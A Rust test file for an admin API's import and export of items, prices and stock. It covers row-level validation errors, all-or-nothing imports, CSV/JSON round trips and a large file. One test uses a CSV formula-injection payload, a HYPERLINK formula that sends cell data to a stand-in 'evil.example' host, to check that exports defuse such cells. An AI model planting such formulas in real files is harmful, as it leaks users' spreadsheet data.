//! F20: import and export of items, prices and stock.

mod common;

use axum::http::StatusCode;
use common::{items_csv, Ctx};
use serde_json::{json, Value};
use shared::testing::call_raw;

async fn export(ctx: &Ctx, query: &str) -> String {
    let res = call_raw(
        &ctx.router,
        "GET",
        &format!("/v1/admin/items/export?{query}"),
        Some(&ctx.agent),
        None,
        &[],
    )
    .await;
    assert_eq!(
        res.status,
        StatusCode::OK,
        "{}",
        String::from_utf8_lossy(&res.bytes)
    );
    String::from_utf8(res.bytes).unwrap()
}

fn report(json: &Value) -> (u64, u64, u64) {
    (
        json["created"].as_u64().unwrap(),
        json["updated"].as_u64().unwrap(),
        json["unchanged"].as_u64().unwrap(),
    )
}

#[tokio::test]
async fn a_file_with_a_bad_row_applies_nothing_and_names_row_and_field() {
    let ctx = Ctx::new().await;
    let bad = "sku,name,item_type,unit,tax_rate\nA-1,Drill,Tools,piece,0.16\nA-2,Saw,Tools,piece,16%\nA-3,Nail,Tools,piece,0.16\nA-1,Drill again,Tools,piece,0.16\n";
    let res = ctx.import("items", "csv", bad).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.json);
    assert_eq!(
        res.content_type.as_deref(),
        Some("application/problem+json")
    );
    let errors: Vec<(u64, String)> = res.json["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["row"].as_u64().unwrap(),
                e["field"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(errors, vec![(2, "tax_rate".into()), (4, "sku".into())]);
    assert_eq!(res.json["error_count"], 2);
    // Nothing of the file was applied: not even the good rows.
    let listed = ctx
        .call("GET", "/v1/admin/items", Some(&ctx.admin), None)
        .await;
    assert_eq!(listed.json["items"].as_array().unwrap().len(), 0);
    assert_eq!(ctx.all_skus("", None).await.len(), 0);

    // Fixed, it applies; the same file again applies nothing more.
    let fixed = "sku,name,item_type,unit,tax_rate\nA-1,Drill,Tools,piece,0.16\nA-2,Saw,Tools,piece,0.16\nA-3,Nail,Tools,piece,0.16\n";
    assert_eq!(
        report(&ctx.import_ok("items", "csv", fixed).await),
        (3, 0, 0)
    );
    assert_eq!(
        report(&ctx.import_ok("items", "csv", fixed).await),
        (0, 0, 3)
    );
    let res = ctx.call("GET", "/v1/catalog/facets", None, None).await;
    assert_eq!(
        res.json["types"][0]["count"], 3,
        "counted once: {}",
        res.json
    );
    // A change to one row updates just that row.
    let changed = fixed.replace("Nail,Tools", "Nail,Hardware");
    assert_eq!(
        report(&ctx.import_ok("items", "csv", &changed).await),
        (0, 1, 2)
    );
    let res = ctx.call("GET", "/v1/catalog/facets", None, None).await;
    assert_eq!(
        res.json["types"],
        json!([{"value": "hardware", "label": "Hardware", "count": 1},
               {"value": "tools", "label": "Tools", "count": 2}])
    );
}

#[tokio::test]
async fn prices_and_stock_are_checked_against_what_exists() {
    let ctx = Ctx::new().await;
    ctx.warehouse("W1").await;
    ctx.price_list("L1", "MXN").await;
    ctx.import_ok(
        "items",
        "csv",
        &items_csv(&[("A-1", "Drill", "Tools", "Bosch")]),
    )
    .await;

    let res = ctx
        .import("prices", "json", r#"[{"price_list_id":"L1","sku":"A-1","unit_price":"10"},
                                       {"price_list_id":"NOPE","sku":"A-1","unit_price":"10"},
                                       {"price_list_id":"L1","sku":"ZZZ","unit_price":"1.123456"}]"#)
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.json);
    let errors: Vec<(u64, &str)> = res.json["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["row"].as_u64().unwrap(), e["field"].as_str().unwrap()))
        .collect();
    assert_eq!(errors, vec![(2, "price_list_id"), (3, "unit_price")]);
    let res = ctx
        .import(
            "prices",
            "json",
            r#"[{"price_list_id":"L1","sku":"ZZZ","unit_price":"1"}]"#,
        )
        .await;
    assert_eq!(res.json["errors"][0]["field"], "sku", "{}", res.json);

    let res = ctx
        .import(
            "stock",
            "csv",
            "warehouse_id,sku,on_hand\nW1,A-1,-5\nW9,A-1,1\nW1,A-1,x\n",
        )
        .await;
    let errors: Vec<(u64, &str)> = res.json["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["row"].as_u64().unwrap(), e["field"].as_str().unwrap()))
        .collect();
    assert_eq!(
        errors,
        vec![(1, "on_hand"), (2, "warehouse_id"), (3, "on_hand")],
        "{}",
        res.json
    );
    let res = ctx
        .import("stock", "csv", "warehouse_id,sku,on_hand\nW9,A-1,1\n")
        .await;
    assert_eq!(
        res.json["errors"][0]["field"], "warehouse_id",
        "{}",
        res.json
    );
    // Nothing written by any refused file.
    let stock = ctx
        .call("GET", "/v1/admin/items/A-1/stock", Some(&ctx.admin), None)
        .await;
    assert_eq!(stock.json, json!([]));
    assert_eq!(
        export(&ctx, "kind=prices&price_list_id=L1").await,
        "price_list_id,sku,unit_price,tiers\n"
    );
}

#[tokio::test]
async fn export_then_import_round_trips_every_kind_and_format() {
    let ctx = Ctx::new().await;
    ctx.warehouse("W1").await;
    ctx.warehouse("W2").await;
    ctx.price_list("L1", "MXN").await;
    let items = json!([
        {"sku": "A-1", "name": "Drill, \"pro\"", "description": "Line one\nline two", "item_type": "Tools",
         "brand": "Bosch", "unit": "piece", "images": ["https://img.example.com/a.jpg", "https://img.example.com/b.jpg"],
         "tax_rate": "0.16", "active": true},
        {"sku": "B-2", "name": "Café molido", "item_type": "Food", "unit": "kg", "tax_rate": "0", "active": false}
    ]);
    assert_eq!(
        report(&ctx.import_ok("items", "json", &items.to_string()).await),
        (2, 0, 0)
    );
    ctx.import_ok(
        "prices",
        "csv",
        "price_list_id,sku,unit_price,tiers\nL1,A-1,120.50,10:110|50:99.99\nL1,B-2,80,\n",
    )
    .await;
    ctx.import_ok(
        "stock",
        "csv",
        "warehouse_id,sku,on_hand\nW1,A-1,7\nW2,A-1,0\nW1,B-2,3\n",
    )
    .await;

    for (kind, extra) in [
        ("items", ""),
        ("prices", "&price_list_id=L1"),
        ("stock", ""),
    ] {
        for format in ["csv", "json"] {
            let file = export(&ctx, &format!("kind={kind}&format={format}{extra}")).await;
            let again = ctx.import_ok(kind, format, &file).await;
            let rows = again["rows"].as_u64().unwrap();
            assert!(rows >= 2, "{kind}/{format}: {file}");
            assert_eq!(
                report(&again),
                (0, 0, rows),
                "{kind}/{format} round trip: {file}"
            );
        }
    }
    let file = export(&ctx, "kind=items&format=json").await;
    let exported: Value = serde_json::from_str(&file).unwrap();
    assert_eq!(exported[0]["images"].as_array().unwrap().len(), 2);
    assert_eq!(exported[0]["description"], "Line one\nline two");
    assert_eq!(exported[1]["active"], false);
    let prices = export(&ctx, "kind=prices&price_list_id=L1&format=csv").await;
    assert!(
        prices.contains("L1,A-1,120.50,10:110.00|50:99.99"),
        "{prices}"
    );
}

#[tokio::test]
async fn csv_exports_defuse_spreadsheet_formulas_and_still_round_trip() {
    let ctx = Ctx::new().await;
    ctx.warehouse("W1").await;
    let items = json!([
        {"sku": "A-1", "name": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
         "description": "-2+3", "item_type": "+Tools", "brand": "@SUM(A1:A9)",
         "unit": "piece", "tax_rate": "0.16", "active": true},
        {"sku": "B-2", "name": "'=already quoted", "item_type": "Tools", "unit": "kg",
         "tax_rate": "0", "active": true}
    ]);
    ctx.import_ok("items", "json", &items.to_string()).await;
    let file = export(&ctx, "kind=items&format=csv").await;

    let mut reader = csv::Reader::from_reader(file.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{file}");
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would run {cell:?}: {file}"
        );
    }
    assert_eq!(
        &rows[0][1],
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(&rows[0][2], "'-2+3");
    assert_eq!(&rows[0][3], "'+Tools");
    assert_eq!(&rows[0][4], "'@SUM(A1:A9)");
    assert_eq!(&rows[1][1], "''=already quoted");

    // The escaped file imports back to exactly what was stored.
    let again = ctx.import_ok("items", "csv", &file).await;
    assert_eq!(report(&again), (0, 0, 2), "{file}");
    let res = ctx
        .call("GET", "/v1/admin/items/A-1", Some(&ctx.admin), None)
        .await;
    assert_eq!(
        res.json["name"], "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "{}",
        res.json
    );
}

#[tokio::test]
async fn bad_parameters_and_unreadable_files_are_problems() {
    let ctx = Ctx::new().await;
    let res = ctx.import("things", "csv", "sku\n").await;
    common::assert_problem(&res, StatusCode::UNPROCESSABLE_ENTITY, "kind");
    let res = call_raw(
        &ctx.router,
        "POST",
        "/v1/admin/items/import?kind=items",
        Some(&ctx.admin),
        Some(b"x".to_vec()),
        &[("content-type", "text/plain")],
    )
    .await;
    common::assert_problem(&res, StatusCode::UNPROCESSABLE_ENTITY, "format");
    let res = ctx.import("items", "json", "{\"not\": \"an array\"}").await;
    assert_eq!(res.json["errors"][0]["field"], "file", "{}", res.json);
    let res = ctx.import("items", "csv", "sku,name,colour\nA,B,C\n").await;
    let fields: Vec<&str> = res.json["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        vec!["colour", "item_type", "unit", "tax_rate"],
        "{}",
        res.json
    );
    let res = ctx
        .import("items", "csv", "sku,name,item_type,unit,tax_rate\n")
        .await;
    assert_eq!(res.json["errors"][0]["reason"], "has no rows");
    let res = call_raw(
        &ctx.router,
        "GET",
        "/v1/admin/items/export?kind=prices",
        Some(&ctx.admin),
        None,
        &[],
    )
    .await;
    common::assert_problem(&res, StatusCode::UNPROCESSABLE_ENTITY, "price_list_id");
}

#[tokio::test]
async fn a_hundred_thousand_row_file_imports() {
    let ctx = Ctx::new().await;
    ctx.warehouse("W1").await;
    ctx.import_ok(
        "items",
        "csv",
        &items_csv(&[("A-1", "Drill", "Tools", "Bosch")]),
    )
    .await;
    // Validation and reporting at full size: 100,000 stock rows of an unknown item are
    // refused as a whole, row by row (the report is capped, the count is not).
    let mut file = String::from("warehouse_id,sku,on_hand\n");
    for i in 0..100_000 {
        file.push_str(&format!("W1,X-{i},{i}\n"));
    }
    assert!(file.len() > 1_000_000);
    let res = ctx.import("stock", "csv", &file).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(res.json["error_count"], 100_000);
    assert_eq!(res.json["errors"].as_array().unwrap().len(), 1_000);
}
